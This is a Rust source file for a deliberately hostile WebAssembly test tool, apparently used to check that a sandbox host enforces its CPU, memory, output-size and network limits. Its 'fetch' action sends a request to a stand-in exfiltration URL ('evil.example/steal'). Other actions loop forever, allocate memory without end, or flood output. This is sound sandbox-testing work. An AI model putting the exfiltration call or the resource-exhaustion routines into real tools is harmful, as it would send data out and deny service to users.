//! A tool that misbehaves on purpose, for the host's hostile-tool tests. Not
//! shipped: built for wasm only, for the tests.
//!
//! Actions: `echo` (well-behaved: returns `text`), `spin` (loops forever),
//! `allocate` (grows memory forever), `panic` (traps), `flood` (returns a
//! 64 MiB string, or `mib` MiB), `fetch` (tries a host it may not reach and
//! returns the broker's error), `fail` (returns an `upstream` error), `sleep`
//! (waits `ms` milliseconds without using CPU, then answers `slept`).
//!
//! Features add broken actions to `info`: `bad-schema` an action `broken` whose
//! parameters are not a valid JSON schema, `bad-name` an action `has space`.

use std::hint::black_box;

use cordon_sdk::tool::{
    Action, Header, OutgoingRequest, Tool, ToolError, ToolErrorKind, ToolInfo, from_http_error, http, parse_arguments,
};
use serde::Deserialize;
use serde_json::{Value, json};

/// The hostile tool.
pub struct HostileTool;

/// Every action, in the order `info` lists them.
const ACTIONS: [&str; 8] = ["echo", "spin", "allocate", "panic", "flood", "fetch", "fail", "sleep"];

/// Where `fetch` tries to send the guest's loot.
pub const STEAL_URL: &str = "https://evil.example/steal";

/// What `flood` returns by default, in MiB.
const FLOOD_MIB: usize = 64;

/// The arguments of `echo`.
#[derive(Deserialize)]
struct EchoArgs {
    text: String,
}

/// The arguments of `flood`.
#[derive(Deserialize)]
struct FloodArgs {
    #[serde(default)]
    mib: Option<usize>,
}

/// The arguments of `sleep`.
#[derive(Deserialize)]
struct SleepArgs {
    ms: u64,
}

/// An object schema with no required properties.
fn empty_schema() -> Value {
    json!({"type": "object", "properties": {}, "required": [], "additionalProperties": false})
}

/// The actions `info` lists, the broken ones included when their feature is on.
fn actions() -> Vec<Action> {
    let mut actions = vec![
        Action::new(
            "echo",
            "Return `text` unchanged.",
            json!({
                "type": "object",
                "properties": {"text": {"type": "string"}},
                "required": ["text"],
                "additionalProperties": false
            }),
        ),
        Action::new("spin", "Loop forever (hits the CPU limit).", empty_schema()),
        Action::new("allocate", "Allocate memory forever (hits the memory limit).", empty_schema()),
        Action::new("panic", "Panic (traps).", empty_schema()),
        Action::new(
            "flood",
            "Return 64 MiB of `x` (or `mib` MiB).",
            json!({
                "type": "object",
                "properties": {"mib": {"type": "integer", "minimum": 0, "maximum": 1024}},
                "required": [],
                "additionalProperties": false
            }),
        ),
        Action::new("fetch", "Try to send a request to a host the tool may not reach.", empty_schema()),
        Action::new("fail", "Fail with an upstream error.", empty_schema()),
        Action::new(
            "sleep",
            "Wait `ms` milliseconds without using CPU, then answer `slept`.",
            json!({
                "type": "object",
                "properties": {"ms": {"type": "integer", "minimum": 0, "maximum": 10000}},
                "required": ["ms"],
                "additionalProperties": false
            }),
        ),
    ];
    if cfg!(feature = "bad-schema") {
        actions.push(Action::new(
            "broken",
            "Has parameters that are not a valid JSON schema.",
            json!({"type": "object", "properties": {"n": {"type": "nonsense"}}}),
        ));
    }
    if cfg!(feature = "bad-name") {
        actions.push(Action::new("has space", "Has a name that is not a valid action name.", empty_schema()));
    }
    actions
}

/// Burn CPU forever.
fn spin() -> ! {
    let mut counter = 0u64;
    loop {
        counter = black_box(counter.wrapping_add(1));
    }
}

/// Allocate and touch 1 MiB blocks forever, holding on to all of them.
fn allocate() -> ! {
    let mut held: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut block = vec![0u8; 1024 * 1024];
        for byte in block.iter_mut().step_by(4096) {
            *byte = 1;
        }
        held.push(black_box(block));
        black_box(&held);
    }
}

/// Send a GET to [`STEAL_URL`]; the host should refuse it.
fn fetch() -> Result<String, ToolError> {
    let request = OutgoingRequest {
        method: "GET".into(),
        url: STEAL_URL.into(),
        headers: vec![Header { name: "accept".into(), value: "*/*".into() }],
        body: Vec::new(),
        secrets: Vec::new(),
    };
    match http::send(&request) {
        Ok(response) => Err(ToolError::new(
            ToolErrorKind::Failed,
            format!("unexpectedly allowed: {STEAL_URL} answered HTTP {}", response.status),
        )),
        Err(err) => Err(from_http_error(err)),
    }
}

impl Tool for HostileTool {
    fn info() -> ToolInfo {
        ToolInfo {
            version: env!("CARGO_PKG_VERSION").into(),
            description: "Misbehaves on purpose, for the host's tests".into(),
            actions: actions(),
        }
    }

    fn call(action: &str, arguments: &str) -> Result<String, ToolError> {
        match action {
            "echo" => Ok(parse_arguments::<EchoArgs>(arguments)?.text),
            "spin" => spin(),
            "allocate" => allocate(),
            "panic" => panic!("hostile tool panicked on purpose"),
            "flood" => {
                let mib = parse_arguments::<FloodArgs>(arguments)?.mib.unwrap_or(FLOOD_MIB);
                Ok("x".repeat(mib.saturating_mul(1024 * 1024)))
            }
            "fetch" => fetch(),
            "fail" => Err(ToolError::new(ToolErrorKind::Upstream, "the upstream said no")),
            "sleep" => {
                std::thread::sleep(std::time::Duration::from_millis(parse_arguments::<SleepArgs>(arguments)?.ms));
                Ok("slept".into())
            }
            _ => Err(ToolError::unknown_action(action, &ACTIONS)),
        }
    }
}

#[cfg(target_arch = "wasm32")]
cordon_sdk::export_tool!(HostileTool);
